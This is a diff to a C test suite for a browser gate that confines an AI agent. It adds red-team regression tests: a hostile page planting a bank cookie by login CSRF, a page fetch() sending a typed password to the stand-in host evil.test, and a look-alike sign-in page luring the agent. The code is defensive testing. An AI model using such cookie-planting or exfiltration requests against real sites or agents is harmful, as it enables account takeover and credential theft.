@@ -828,12 +828,63 @@ static int vault_count(vault *v, const char *origin, const char *identity)
     return k;
 }
 
-/* Issue 15, point 4: a session is saved at the hand-back only when a person
- * held control, on an origin the grant names an identity for, off the login
- * wall; then it is in the vault under that identity, the current tab is
- * authenticated (auth=yes) in a privileged context of its own, the
- * untrusted context no longer holds the service's cookie, and a fresh
- * observation id is given; nothing returned holds a value. */
+/* The person signs in on the current tab's bank login page (the fixture's
+ * form: user, password, one-time code; the server sets bank_session, the
+ * page bank_pref and localStorage's bank_token), and waits for the account
+ * page. */
+static void person_form_sign_in(snap_agent *a)
+{
+    free(page_eval(a, "document.getElementById('user').value='alice';"
+                   "document.getElementById('pw').value='" PW "';"
+                   "document.getElementById('otp').value='" FIXTURE_BANK_OTP "';"
+                   "document.getElementById('f').requestSubmit(),''"));
+    eval_until(a, "location.pathname", "/bank/account");
+    snap_sync(a);
+}
+
+/* Start the person's sign-in from the current tab: a fresh login context
+ * of its own, its tab current; its context index (0 when it did not). */
+static size_t signin_begin(testlib_rig *x, int agent_tab)
+{
+    bool fresh = false;
+    snap_result r = {0};
+    int rc = snap_human_signin(x->a, &fresh, &r);
+    if (!CHECK_INT(0, rc))
+        test_fail_detail("%s\n", r.text ? r.text : "");
+    snap_result_free(&r);
+    snap_tab *t = snap_tab_current(x->a);
+    if (!CHECK(fresh && t && t->id != agent_tab && t->ctx != 0))
+        return 0;
+    CHECK_INT(SNAP_CTX_LOGIN, x->a->ctxs[t->ctx].state);
+    CHECK_HAS(t->frames[0].url, "/bank/login.html");
+    return t->ctx;
+}
+
+/* The cookies of browser context ctx as JSON (new; the test's own look). */
+static char *ctx_cookies(snap_agent *a, size_t ctx)
+{
+    char params[SNAP_ID_MAX + 40];
+    snprintf(params, sizeof params, "{\"browserContextId\":\"%s\"}", a->ctxs[ctx].id);
+    cdp_reply rep = {0};
+    cdp_err e = {0};
+    char *all = NULL;
+    if (CHECK_INT(0, cdp_call(a->c, NULL, "Storage.getCookies", params, 10000, &rep, &e)))
+        all = json_write(rep.result, NULL);
+    cdp_reply_free(&rep);
+    return all ? all : calloc(1, 1);
+}
+
+/* Issue 15, point 4, and red team s15 (R5-1, R5-4): the person signs in in
+ * a fresh, empty login context of its own (snap_human_signin), and a
+ * session is saved at the hand-back only from there, when a person held
+ * control, off the login wall: then it is in the vault under the grant's
+ * identity, the agent goes on at the service's root (never the page the
+ * person ended on) in a privileged context of its own (auth=yes), the
+ * sign-in's context is closed, the agent's untrusted context never held
+ * the session, and a fresh observation id is given. Otherwise the
+ * sign-in's context is closed and the agent is back on its tab. A takeover
+ * in the untrusted context saves nothing; an authenticated tab's session
+ * is saved again off the login wall. Nothing returned holds a value. */
 static void t_handback_rules(void)
 {
     char vdir[300], url[200];
@@ -859,50 +910,64 @@ static void t_handback_rules(void)
         vault_close(v);
         return;
     }
+    int agent_tab = snap_tab_current(x.a)->id;
     CHECK_INT(0, (int)snap_tab_current(x.a)->ctx);      /* the untrusted context */
-    free(page_eval(x.a, "document.cookie='bank_session=" FIXTURE_BANK_SESSION "; path=/',''"));
     snap_handback h;
-    /* on the login page: not logged in, nothing saved */
+    snap_result r = {0};
+    /* a takeover in the untrusted context, signed in there: nothing saved,
+     * ever (red team s15, R5-1: any page can set the bank's cookies there) */
+    free(page_eval(x.a, "document.cookie='bank_session=" FIXTURE_BANK_SESSION "; path=/',''"));
+    testlib_world_url(&world, url, sizeof url, "bank.test", "/bank/account");
+    CHECK_INT(0, snap_open(x.a, url, false, &r));
+    CHECK_HAS(r.text, "Account overview");
+    snap_result_free(&r);
+    CHECK_INT(agent_tab, snap_tab_current(x.a)->id);
+    snap_human_handback(x.a, true, &h);
+    CHECK(!h.saved && !h.logged_in);
+    CHECK_HAS(h.note, "the agent's own browser context");
+    CHECK_INT(0, vault_count(v, O_BANK, NULL));
+    CHECK_INT(agent_tab, snap_tab_current(x.a)->id);
+    if (!open_login(&x)) {
+        testlib_rig_down(&x);
+        vault_close(v);
+        return;
+    }
+    /* on the login page: nothing saved; the sign-in's context closed, the
+     * agent back on its own tab */
+    size_t sc = signin_begin(&x, agent_tab);
     snap_human_handback(x.a, true, &h);
     CHECK(!h.saved && !h.logged_in);
     CHECK_HAS(h.note, "still shows a login");
     CHECK(h.obs[0] == 'o');
-    testlib_world_url(&world, url, sizeof url, "bank.test", "/bank/account");
-    snap_result r = {0};
-    CHECK_INT(0, snap_open(x.a, url, false, &r));
-    CHECK_HAS(r.text, "Account overview");
-    snap_result_free(&r);
-    /* nobody held control: nothing saved */
+    CHECK_INT(agent_tab, snap_tab_current(x.a)->id);
+    CHECK(sc && !x.a->ctxs[sc].created);
+    /* nobody held control: nothing saved, even signed in */
+    sc = signin_begin(&x, agent_tab);
+    person_form_sign_in(x.a);
     snap_human_handback(x.a, false, &h);
     CHECK(!h.saved && !h.logged_in);
     CHECK_HAS(h.note, "nobody took control");
     CHECK_INT(0, vault_count(v, O_BANK, NULL));
-    /* the person logged in: saved under alice, moved, authenticated */
+    CHECK_INT(agent_tab, snap_tab_current(x.a)->id);
+    /* the person signed in: saved under alice; the agent goes on at the
+     * service's root, in a privileged context of its own */
     char obs0[16];
     snprintf(obs0, sizeof obs0, "%s", h.obs);
+    sc = signin_begin(&x, agent_tab);
+    person_form_sign_in(x.a);
     snap_human_handback(x.a, true, &h);
     if (!CHECK(h.saved && h.logged_in))
         test_fail_detail("note: %s\n", h.note);
     CHECK_STR("alice", h.identity);
-    CHECK(h.ncookies >= 1);
+    CHECK(h.ncookies >= 2 && h.nls >= 1);
     CHECK(h.obs[0] == 'o' && strcmp(h.obs, obs0) != 0);
     CHECK_INT(1, vault_count(v, O_BANK, "alice"));
     snap_tab *t = snap_tab_current(x.a);
-    CHECK(t && t->ctx != 0 && snap_tab_auth(x.a, t));
-    char *title = page_eval(x.a, "document.querySelector('h1').textContent");
-    CHECK_STR("Account overview", title);
-    free(title);
-    /* the untrusted context holds the bank's cookie no more */
-    char params[SNAP_ID_MAX + 40];
-    snprintf(params, sizeof params, "{\"browserContextId\":\"%s\"}", x.a->ctxs[0].id);
-    cdp_reply rep = {0};
-    cdp_err e = {0};
-    if (CHECK_INT(0, cdp_call(x.a->c, NULL, "Storage.getCookies", params, 10000, &rep, &e))) {
-        char *all = json_write(rep.result, NULL);
-        CHECK_LACKS(all, "bank_session");
-        free(all);
-    }
-    cdp_reply_free(&rep);
+    CHECK(t && t->ctx != 0 && t->ctx != sc && snap_tab_auth(x.a, t));
+    char root[100];
+    snprintf(root, sizeof root, "%s/", O_BANK);
+    CHECK_STR(root, t && t->nframes ? t->frames[0].url : "");
+    CHECK(sc && !x.a->ctxs[sc].created);
     CHECK_LACKS(h.note, FIXTURE_BANK_SESSION);
     /* an authenticated tab: its session saved again from its own context;
      * on the login page (signed out, say), the stored one is kept */
@@ -916,6 +981,127 @@ static void t_handback_rules(void)
     snap_human_handback(x.a, true, &h);
     CHECK(!h.saved);
     CHECK_HAS(h.note, "the stored session was not replaced");
+    CHECK_INT(1, vault_count(v, O_BANK, "alice"));
+    testlib_rig_down(&x);
+    vault_close(v);
+}
+
+/* Red team s15 (red5, R5-1 HIGH): the hand-back sealed every cookie of
+ * the service the untrusted context held, whoever set it. A page of
+ * another granted site (shop.test) in the agent's untrusted context, by
+ * script, navigates to the bank and gets a cookie set there (bank_wide,
+ * Domain=bank.test: it stands for a login CSRF into an attacker's account),
+ * before the takeover and again while the person holds control. The
+ * red team's case: the person "logs in" in the untrusted bank tab and hands
+ * back: nothing is sealed now (on main 8072822 the vault's session for
+ * alice held bank_wide). The fix: the person signs in in a fresh, empty
+ * context of its own (nothing of the untrusted context in it), and only
+ * that context's session is sealed: bank_session and the page's own
+ * items, never bank_wide. */
+static void t_red5_handback_planted(void)
+{
+    char vdir[300], url[300], o_shop[64];
+    vault *v = testlib_vault_new(world.root, vdir, sizeof vdir);
+    if (!v)
+        return;
+    testlib_world_origin(&world, o_shop, sizeof o_shop, "shop.test");
+    const char *origins[2] = {O_BANK, o_shop};
+    gate_identity ids[] = {{O_BANK, "alice"}};
+    gate_grant g;
+    memset(&g, 0, sizeof g);
+    g.task = "red5 handback test";
+    g.principal = "test";
+    g.origins = origins;
+    g.norigins = 2;
+    g.identities = ids;
+    g.nidentities = 1;
+    snap_opts o = {0};
+    o.timeout_ms = 10000;
+    o.vault = v;
+    testlib_rig x;
+    snap_result r = {0};
+    if (!testlib_rig_up(&x, &world, &g, NULL, &o)) {
+        testlib_rig_down(&x);
+        vault_close(v);
+        return;
+    }
+    /* the hostile page first: a page of a granted site, untrusted context */
+    testlib_world_url(&world, url, sizeof url, "shop.test", "/index.html");
+    if (!CHECK_INT(0, snap_open(x.a, url, false, &r)))
+        test_fail_detail("%s\n", r.text ? r.text : "");
+    snap_result_free(&r);
+    int shop_tab = snap_tab_current(x.a)->id;
+    /* then the bank's login in a tab of its own (the takeover's tab) */
+    testlib_world_url(&world, url, sizeof url, "bank.test", "/bank/login.html");
+    if (!CHECK_INT(0, snap_open(x.a, url, true, &r)))
+        test_fail_detail("%s\n", r.text ? r.text : "");
+    snap_result_free(&r);
+    int bank_tab = snap_tab_current(x.a)->id;
+    CHECK(bank_tab != shop_tab);
+    CHECK_INT(0, (int)snap_tab_current(x.a)->ctx);
+    /* the hostile page's script, not the agent and not the person */
+    x.a->cur = shop_tab;
+    testlib_world_url(&world, url, sizeof url, "bank.test", "/gate/domain-cookie");
+    char js[400];
+    snprintf(js, sizeof js, "location.href='%s',''", url);
+    free(page_eval(x.a, js));
+    eval_until(x.a, "location.pathname", "/gate/sink");
+    snap_sync(x.a);
+    char *all = ctx_cookies(x.a, 0);
+    CHECK_HAS(all, "bank_wide");        /* planted in the untrusted context */
+    free(all);
+    /* the red team's repro: the person "logs in" in the untrusted tab and
+     * hands back: nothing of that context is sealed */
+    x.a->cur = bank_tab;
+    free(page_eval(x.a, "document.cookie='bank_session=" FIXTURE_BANK_SESSION "; path=/',''"));
+    testlib_world_url(&world, url, sizeof url, "bank.test", "/bank/account");
+    CHECK_INT(0, snap_open(x.a, url, false, &r));
+    CHECK_HAS(r.text, "Account overview");
+    snap_result_free(&r);
+    snap_handback h;
+    snap_human_handback(x.a, true, &h);
+    CHECK(!h.saved);
+    CHECK_INT(0, vault_count(v, O_BANK, NULL));
+    /* the sign-in: a fresh, empty context of its own */
+    testlib_world_url(&world, url, sizeof url, "bank.test", "/bank/login.html");
+    CHECK_INT(0, snap_open(x.a, url, false, &r));
+    snap_result_free(&r);
+    size_t sc = signin_begin(&x, bank_tab);
+    int signin_tab = snap_tab_current(x.a)->id;
+    all = sc ? ctx_cookies(x.a, sc) : NULL;
+    CHECK(all && !strstr(all, "\"name\""));     /* no cookie at all */
+    free(all);
+    /* while the person holds control the hostile page plants again */
+    gate_set_mode(x.g, GATE_MODE_HUMAN, "test: the person took over");
+    x.a->cur = shop_tab;
+    testlib_world_url(&world, url, sizeof url, "bank.test", "/gate/domain-cookie?again=1");
+    snprintf(js, sizeof js, "location.href='%s',''", url);
+    free(page_eval(x.a, js));
+    eval_until(x.a, "location.pathname", "/gate/sink");
+    /* the person signs in on the sign-in's tab */
+    x.a->cur = signin_tab;
+    person_form_sign_in(x.a);
+    gate_set_mode(x.g, GATE_MODE_AGENT, "test: handed back");
+    snap_human_handback(x.a, true, &h);
+    if (!CHECK(h.saved && h.logged_in))
+        test_fail_detail("note: %s\n", h.note);
+    CHECK_STR("alice", h.identity);
+    uint8_t *blob = NULL;
+    size_t len = 0;
+    vault_meta meta;
+    char err[300] = "";
+    if (CHECK_INT(0, vault_get(v, O_BANK, &blob, &len, &meta, err, sizeof err))) {
+        char *st = strndup((const char *)blob, len);
+        CHECK(st && strstr(st, "bank_session"));
+        /* the fix: a cookie the person's sign-in did not set is not sealed */
+        if (!CHECK(st && !strstr(st, "bank_wide")))
+            fprintf(stderr, "red5: bank_wide (page-planted) in the vault\n");
+        if (st)
+            base_memzero(st, strlen(st));
+        free(st);
+        vault_meta_free(&meta);
+        vault_free_blob(blob, len);
+    }
     testlib_rig_down(&x);
     vault_close(v);
 }
@@ -1117,18 +1303,30 @@ static void t_mcp_gate_stop_handback(void)
         back = !strstr(r, "the human is in control");
         if (back) {
             CHECK_HAS(r, "handed control back from the live view");
+            /* R5-4: the person's last page by its origin only, as the
+             * sink's human-mode rule shows a request */
+            CHECK_HAS(r, "the page now is http://bank.test:");
+            CHECK_HAS(r, "(path and query withheld)");
+            CHECK_LACKS(r, "/bank/account");
             CHECK_HAS(r, "logged in: yes at http://bank.test:");
             CHECK_HAS(r, "saved in the vault under the identity \\\"alice\\\"");
             CHECK_HAS(r, "bank_session");
             CHECK_HAS(r, "New observation o");
             CHECK_HAS(r, "auth=yes");
-            CHECK_HAS(r, "Account overview");
         }
         results = gather(results, r);
         if (!back)
             testlib_sleep_ms(100);
     }
     CHECK(back);
+    /* the agent goes on signed in (it landed on the service's root) */
+    char acct[200];
+    testlib_world_url(&world, acct, sizeof acct, "bank.test", "/bank/account");
+    snprintf(args, sizeof args, "{\"url\":\"%s\"}", acct);
+    r = testlib_mcp_tool(&c, id++, "browser_open", args);
+    CHECK_HAS(r, "auth=yes");
+    CHECK_HAS(r, "Account overview");
+    results = gather(results, r);
     /* the ref from before the takeover: stale */
     snprintf(args, sizeof args, "{\"ref\":\"%s\",\"text\":\"x\"}", ref);
     r = testlib_mcp_tool(&c, id++, "browser_type", args);
@@ -1478,6 +1676,178 @@ static void t_mcp_live_expired(void)
     testlib_child_free(&c);
 }
 
+/* ---- red team s15, R5-5: a takeover only for a granted identity; the open
+ * web's context judged while the person holds control ---- */
+
+/* How many lines of the fixture's request log hold both host and part. */
+static int log_count(const char *host, const char *part)
+{
+    char *t = read_text_file(world.log);
+    int n = 0;
+    for (char *l = t, *nl; l && *l; l = nl ? nl + 1 : l + strlen(l)) {
+        nl = strchr(l, '\n');
+        if (nl)
+            *nl = 0;
+        n += strstr(l, host) && strstr(l, part);
+    }
+    free(t);
+    return n;
+}
+
+/* The page's fetch() of url with method (a body when POST), answered as
+ * the page sees it: "sent" (a response came) or "refused" (a network
+ * error: failed before it left). */
+static char *page_fetch(snap_agent *a, const char *method, const char *url)
+{
+    char js[700];
+    snprintf(js, sizeof js, "window.__r='';fetch('%s',{method:'%s',mode:'no-cors'%s})"
+             ".then(()=>{window.__r='sent'},()=>{window.__r='refused'}),''", url, method,
+             strcmp(method, "POST") == 0 ? ",body:'pw=Typed-By-The-Person'" : "");
+    free(page_eval(a, js));
+    char *v = NULL;
+    for (int k = 0; k < 500; k++) {
+        free(v);
+        v = page_eval(a, "window.__r");
+        if (*v)
+            break;
+        cdp_err e;
+        cdp_pump(a->c, 20, &e);
+    }
+    return v;
+}
+
+/* R5-5, second half: while the person holds control (gate mode human), a
+ * page of the agent's untrusted context (the open web's) is still judged
+ * by the gate, with the privileged context's egress rule: its POST of
+ * what the person typed to an origin the grant does not name, or a GET
+ * carrying it in the URL, is refused before it leaves, and reported; a
+ * POST to a granted origin (egress approved_origin_fetch) still goes.
+ * Before, every request of every context was "the human's" then,
+ * unjudged. */
+static void t_red5_human_egress(void)
+{
+    char o_shop[64], url[300];
+    testlib_world_origin(&world, o_shop, sizeof o_shop, "shop.test");
+    const char *origins[2] = {O_BANK, o_shop};
+    gate_identity ids[] = {{O_BANK, "alice"}};
+    gate_grant g;
+    memset(&g, 0, sizeof g);
+    g.task = "red5 egress test";
+    g.principal = "test";
+    g.origins = origins;
+    g.norigins = 2;
+    g.identities = ids;
+    g.nidentities = 1;
+    g.egress = GATE_EGRESS_FETCH;
+    snap_opts o = {0};
+    o.timeout_ms = 10000;
+    testlib_rig x;
+    snap_result r = {0};
+    if (!testlib_rig_up(&x, &world, &g, NULL, &o)) {
+        testlib_rig_down(&x);
+        return;
+    }
+    testlib_world_url(&world, url, sizeof url, "shop.test", "/bank/login.html");
+    if (!CHECK_INT(0, snap_open(x.a, url, false, &r)))
+        test_fail_detail("%s\n", r.text ? r.text : "");
+    snap_result_free(&r);
+    CHECK_INT(0, (int)snap_tab_current(x.a)->ctx);      /* the untrusted context */
+    gate_set_mode(x.g, GATE_MODE_HUMAN, "test: a person took over");
+    uint64_t b0 = x.a->nblocked;
+    testlib_world_url(&world, url, sizeof url, "evil.test", "/gate/sink?tag=r55-post");
+    char *v = page_fetch(x.a, "POST", url);
+    CHECK_STR("refused", v);
+    free(v);
+    /* a GET with the value in its URL (a plain GET goes anywhere from the
+     * untrusted context under the agent): not while the person types */
+    testlib_world_url(&world, url, sizeof url, "evil.test", "/gate/sink?tag=r55-get");
+    v = page_fetch(x.a, "GET", url);
+    CHECK_STR("refused", v);
+    free(v);
+    testlib_world_url(&world, url, sizeof url, "shop.test", "/gate/sink?tag=r55-granted");
+    v = page_fetch(x.a, "POST", url);
+    CHECK_STR("sent", v);
+    free(v);
+    CHECK_INT(0, log_count("evil.test", "tag=r55-post"));
+    CHECK_INT(0, log_count("evil.test", "tag=r55-get"));
+    CHECK_INT(1, log_count("shop.test", "tag=r55-granted"));
+    char seen[2000] = "";
+    snap_blocked_describe(x.a, b0, 0, seen, sizeof seen);
+    CHECK_HAS(seen, "evil.test");
+    CHECK_HAS(seen, "origin not in the grant");
+    CHECK_LACKS(seen, "Typed-By-The-Person");
+    gate_set_mode(x.g, GATE_MODE_AGENT, "test: handed back");
+    testlib_rig_down(&x);
+}
+
+/* A grant naming the identity "alice" for the bank, and shop.test (no
+ * identity: a granted site with user content), written into dir. */
+static void write_grant_shop(const char *dir, char *out, size_t cap)
+{
+    char o_shop[64];
+    testlib_world_origin(&world, o_shop, sizeof o_shop, "shop.test");
+    snprintf(out, cap, "%s/grant.json", dir);
+    FILE *f = fopen(out, "w");
+    if (!CHECK(f != NULL))
+        return;
+    fprintf(f, "{\"task\":\"summon-test\",\"principal\":\"test\",\"origins\":[\"%s\",\"%s\"],"
+            "\"identities\":{\"%s\":\"alice\"},\"egress\":[\"approved_origin_fetch\"]}\n",
+            O_BANK, o_shop, O_BANK);
+    fclose(f);
+}
+
+/* R5-5, first half, through `cdpgate mcp --live`: a look-alike "Sign in to
+ * Bank" page on shop.test (granted, but the grant names no identity for
+ * it): the agent types into its password field, the gate stops it, and no
+ * live view starts (no link to --live-notify, no lock): the result says the
+ * action was not done and why no person was asked. Before, any granted
+ * page summoned the person into a takeover of itself. */
+static void t_red5_summon_refused(void)
+{
+    if (!testlib_need_browser() || !testlib_need_cdpgate())
+        return;
+    char tmp[300], rules[200], notify[1400], linkfile[400], args[600], data[400];
+    char grant[400], page[200], ref[32] = "";
+    snprintf(tmp, sizeof tmp, "%s/summon", world.root);
+    mkdir(tmp, 0700);
+    snprintf(data, sizeof data, "XDG_DATA_HOME=%s/data", tmp);
+    snprintf(linkfile, sizeof linkfile, "%s/link", tmp);
+    snprintf(notify, sizeof notify, "cat > %s.part && mv %s.part %s", linkfile, linkfile,
+             linkfile);
+    snprintf(rules, sizeof rules, "--browser-arg=%s", FIXTURE_HOST_RULES);
+    write_grant_shop(tmp, grant, sizeof grant);
+    const char *env[] = {data, "DISPLAY", "WAYLAND_DISPLAY", NULL};
+    const char *argv[] = {testlib_cdpgate_bin(), rules, "--grant", grant, "--live",
+                          "--live-notify", notify, "mcp", NULL};
+    fixture_child c;
+    if (!CHECK_INT(0, testlib_child_spawn(&c, world.root, env, argv, false)))
+        return;
+    testlib_mcp_init(&c, "t");
+    testlib_world_url(&world, page, sizeof page, "shop.test", "/bank/login.html");
+    snprintf(args, sizeof args, "{\"url\":\"%s\"}", page);
+    char *r = testlib_mcp_tool(&c, 2, "browser_open", args);
+    CHECK_HAS(r, "Sign in");
+    testlib_mcp_ref(r, "Password", ref, sizeof ref);
+    CHECK(*ref);
+    free(r);
+    snprintf(args, sizeof args, "{\"ref\":\"%s\",\"text\":\"hunter2\"}", ref);
+    r = testlib_mcp_tool(&c, 3, "browser_type", args);
+    CHECK_HAS(r, "\"isError\":true");
+    CHECK_LACKS(r, "A person was asked");
+    CHECK_HAS(r, "names no identity for http://shop.test:");
+    free(r);
+    struct stat st;
+    CHECK(stat(linkfile, &st) != 0);
+    r = testlib_mcp_tool(&c, 4, "browser_snapshot", "{}");
+    CHECK_LACKS(r, "the human is in control");
+    CHECK_HAS(r, "Sign in");
+    free(r);
+    char *err = fixture_child_stderr(&c);
+    CHECK_LACKS(err, "live view: the link went");
+    free(err);
+    testlib_child_free(&c);
+}
+
 /* The person's page: wait (20 s) until expr comes to want. */
 static bool person_until(person *p, const char *expr, const char *want, char *v, size_t cap)
 {
@@ -1736,6 +2106,9 @@ static const test_case TESTS[] = {
     {"mcp_gate_stop_handback", t_mcp_gate_stop_handback},
     {"cli_login_live", t_cli_login_live},
     {"handback_rules", t_handback_rules},
+    {"red5_handback_planted", t_red5_handback_planted},
+    {"red5_human_egress", t_red5_human_egress},
+    {"red5_summon_refused", t_red5_summon_refused},
     {"mcp_live_refusals", t_mcp_live_refusals},
     {"mcp_live_expired", t_mcp_live_expired},
     {"mcp_live_tabs", t_mcp_live_tabs},
@@ -1746,7 +2119,7 @@ static const test_case TESTS[] = {
 int main(int argc, char **argv)
 {
     signal(SIGPIPE, SIG_IGN);
-    if (testlib_world_up(&world, "takeover", host_args, false) != 0)
+    if (testlib_world_up(&world, "takeover", host_args, true) != 0)
         return 1;
     testlib_world_origin(&world, O_BANK, sizeof O_BANK, "bank.test");
     int rc = test_main(argc, argv, TESTS);
